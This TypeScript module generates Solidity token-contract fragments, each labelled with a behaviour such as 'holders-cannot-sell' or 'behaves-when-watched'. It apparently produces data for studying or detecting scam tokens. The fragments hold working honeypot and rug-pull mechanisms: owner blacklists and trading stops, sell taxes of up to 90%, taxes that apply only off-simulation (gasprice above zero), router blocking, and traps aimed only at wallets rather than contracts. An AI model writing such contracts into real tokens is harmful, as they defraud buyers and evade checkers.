import type { Writer } from "./writer.ts";
import { type Behaviour, guarded, knowingPool, list, taking } from "./written.ts";

/** How code asks whether somebody has none. */
export function bare(writer: Writer, who: string): string {
  const empty = "0xc5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470";
  return writer.one(
    `${who}.code.length == 0`,
    `(${who}.codehash == 0 || ${who}.codehash == ${empty})`,
    `!(${who}.codehash != bytes32(0) && ${who}.codehash != ${empty})`,
    `${who}.code.length < 1`,
    `keccak256(${who}.code) == ${empty}`,
  );
}

const STOPS = ["owner-can-stop-trading", "owner-can-block-holders", "owner-can-shrink-limits"];

/** What is done to some, by what they are, what they do it with, and when. */
export const ASKING: readonly Behaviour[] = [
  {
    name: "a list for people alone",
    rows: STOPS,
    write: (writer) => {
      const [kept, who] = [writer.name(), writer.name()];
      const asked = writer.one(who, "msg.sender");
      const first = writer.one(
        (asks: string) => `require(${asks}, "no"); ${kept}[${who}] = true;`,
        (asks: string) => `if (!(${asks})) revert(); ${kept}[${who}] = true;`,
        (asks: string) => `if (${asks}) ${kept}[${who}] = true;`,
      );
      return {
        members: `mapping(address => bool) private ${kept}; ${guarded(writer, `address ${who}`, first(bare(writer, asked)))}`,
        hook: `require(!${kept}[from]);`,
      };
    },
  },
  {
    name: "tokens that people make alone",
    rows: ["supply-grows-unseen", "supply-can-grow"],
    write: (writer) => {
      const value = writer.name();
      const counted = writer.one("", `totalSupply += ${value};`);
      return {
        members: guarded(
          writer,
          `uint256 ${value}`,
          `require(${bare(writer, "msg.sender")}); ${counted} balanceOf[msg.sender] += ${value};`,
        ),
      };
    },
  },
  {
    name: "tokens that are taken from people alone",
    rows: ["owner-can-take-tokens", "owner-can-burn-holdings"],
    write: (writer) => {
      const who = writer.name();
      const take = writer.one(
        `_move(${who}, msg.sender, balanceOf[${who}]);`,
        `totalSupply -= balanceOf[${who}]; balanceOf[${who}] = 0;`,
      );
      return { members: guarded(writer, `address ${who}`, `require(${bare(writer, who)}); ${take}`) };
    },
  },
  {
    name: "a stop for people alone",
    rows: STOPS,
    write: (writer) => {
      const [on, to] = [writer.name(), writer.name()];
      return {
        members: `bool private ${on}; ${guarded(writer, `bool ${to}`, `${on} = ${to};`)}`,
        hook: `require(!${on} || from == owner || !(${bare(writer, "from")}));`,
      };
    },
  },
  {
    name: "a tax for people alone",
    rows: ["tax-can-rise", ...STOPS],
    write: (writer) => {
      const [tax, to] = [writer.name(), writer.name()];
      const set = guarded(writer, `uint256 ${to}`, `require(${to} <= 80); ${tax} = ${to};`);
      return {
        members: `uint256 private ${tax}; ${set}`,
        hook: taking(tax, 100, `from != owner && to != owner && (${bare(writer, "from")})`),
      };
    },
  },
  {
    name: "a holding that can be made small, the pool's too",
    rows: STOPS,
    write: (writer) => {
      const [most, to] = [writer.name(), writer.name()];
      const set = guarded(writer, `uint256 ${to}`, `${most} = ${to};`);
      return {
        members: `uint256 private ${most} = type(uint256).max; ${set}`,
        hook: `require(from == owner || to == owner || balanceOf[to] + value <= ${most});`,
      };
    },
  },
  {
    name: "a wait by who starts it",
    rows: [...STOPS, "sales-need-waiting"],
    write: (writer) => {
      const [last, wait, to] = [writer.name(), writer.name(), writer.name()];
      return {
        members: `mapping(address => uint256) private ${last}; uint256 private ${wait}; ${guarded(writer, `uint256 ${to}`, `${wait} = ${to};`)}`,
        hook: `require(from == owner || ${last}[tx.origin] == 0 || block.timestamp >= ${last}[tx.origin] + ${wait}); ${last}[tx.origin] = block.timestamp;`,
      };
    },
  },
  {
    name: "who has more may not leave",
    rows: STOPS,
    write: (writer) => {
      const [most, to] = [writer.name(), writer.name()];
      const set = guarded(writer, `uint256 ${to}`, `${most} = ${to};`);
      const { pool, members, first } = knowingPool(writer);
      return {
        members: `${members} uint256 private ${most} = type(uint256).max; ${set}`,
        hook: `${first} require(from == owner || to != ${pool} || balanceOf[from] <= ${most});`,
      };
    },
  },
  {
    name: "more is taken of more",
    rows: ["selling-is-taxed", "sales-are-limited", "cannot-sell-everything", "holders-pay-differently"],
    write: (writer) => {
      const { pool, members, first } = knowingPool(writer);
      const part = writer.one(200_000, 1_000_000);
      return {
        members,
        hook: `${first} ${taking(String(writer.one(60, 90)), 100, `to == ${pool} && from != owner && value > totalSupply / ${part}`)}`,
      };
    },
  },
  {
    name: "a tax by the hour",
    rows: ["selling-is-taxed", "tax-changes-later", "buying-is-taxed"],
    write: (writer) => {
      const { pool, members, first } = knowingPool(writer);
      const [born, most] = [writer.name(), writer.one(60, 85)];
      return {
        members: `${members} uint256 private immutable ${born} = block.timestamp;`,
        hook: `${first} ${taking(`(((block.timestamp - ${born}) / 1 hours) % 2 == 0 ? ${most} : 0)`, 100, `to == ${pool} && from != owner`)}`,
      };
    },
  },
  {
    name: "a tax by what gas costs",
    rows: ["selling-is-taxed", "behaves-when-watched", "holders-cannot-sell"],
    write: (writer) => {
      const { pool, members, first } = knowingPool(writer);
      return {
        members,
        hook: `${first} ${taking("75", 100, `to == ${pool} && from != owner && tx.gasprice > 0`)}`,
      };
    },
  },
  {
    name: "what the router may spend is refused",
    rows: ["approvals-fail", "router-is-blocked", "holders-cannot-sell", ...STOPS],
    write: (writer) => {
      const [router, to] = [writer.name(), writer.name()];
      const set = guarded(writer, `address ${to}`, `${router} = ${to};`);
      return {
        members: `address private ${router}; ${set}
          function transferFrom(address from, address to, uint256 value) public override returns (bool) { require(msg.sender != ${router} || from == owner); return super.transferFrom(from, to, value); }`,
      };
    },
  },
  {
    name: "what was approved is not enough",
    rows: ["approvals-fail", "holders-cannot-sell", "router-is-blocked"],
    write: (writer) => {
      const signed = writer.name();
      return {
        members: `mapping(address => mapping(address => bool)) private ${signed};
          function permit(address from, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
            require(block.timestamp <= deadline && ecrecover(keccak256(abi.encode(from, spender, value, deadline)), v, r, s) == from && from != address(0));
            ${signed}[from][spender] = true; allowance[from][spender] = value;
          }
          function transferFrom(address from, address to, uint256 value) public override returns (bool) { require(from == owner || ${signed}[from][msg.sender]); return super.transferFrom(from, to, value); }`,
      };
    },
  },
  {
    name: "another contract is asked, which can be replaced",
    rows: [...STOPS, "code-can-change", "transfer-calls-out"],
    write: (writer) => {
      const [guard, to] = [writer.name(), writer.name()];
      const set = guarded(writer, `address ${to}`, `${guard} = ${to};`);
      const asks = writer.one(
        `(bool ok,) = ${guard}.call(abi.encodeWithSignature("check(address,address,uint256)", from, to, value)); require(ok && ${guard}.code.length > 0);`,
        `(bool ok, bytes memory said) = ${guard}.staticcall(abi.encodeWithSignature("isBot(address)", from)); require(ok && said.length == 32 && !abi.decode(said, (bool)));`,
      );
      return {
        members: `address private ${guard}; ${set}`,
        hook: `if (${guard} != address(0) && from != owner) { ${asks} }`,
      };
    },
  },
  {
    name: "a launch that can be closed again",
    rows: STOPS,
    write: (writer) => {
      const [open, opens, to] = [writer.name(), writer.name(), writer.name()];
      const set = writer.one(
        guarded(writer, `bool ${to}`, `${open} = ${to} ? block.number : 0;`),
        guarded(writer, `uint256 ${to}`, `${open} = ${to};`),
        guarded(writer, "", `${open} = 0;`),
      );
      return {
        members: `uint256 private ${open}; function ${opens}() external { require(msg.sender == owner && ${open} == 0); ${open} = block.number; } ${set}`,
        hook: `require((${open} > 0 && block.number >= ${open}) || from == owner || to == owner);`,
        opens,
      };
    },
  },
  {
    name: "a list by what somebody had",
    rows: STOPS,
    write: (writer) => {
      const { members, has } = list(writer);
      const since = writer.name();
      return {
        members: `${members} mapping(address => uint256) private ${since};`,
        hook: `if (${since}[to] == 0) ${since}[to] = ${bare(writer, "to")} ? 1 : 2; require(${since}[from] != 1 || !(${has("from")}));`,
      };
    },
  },
];
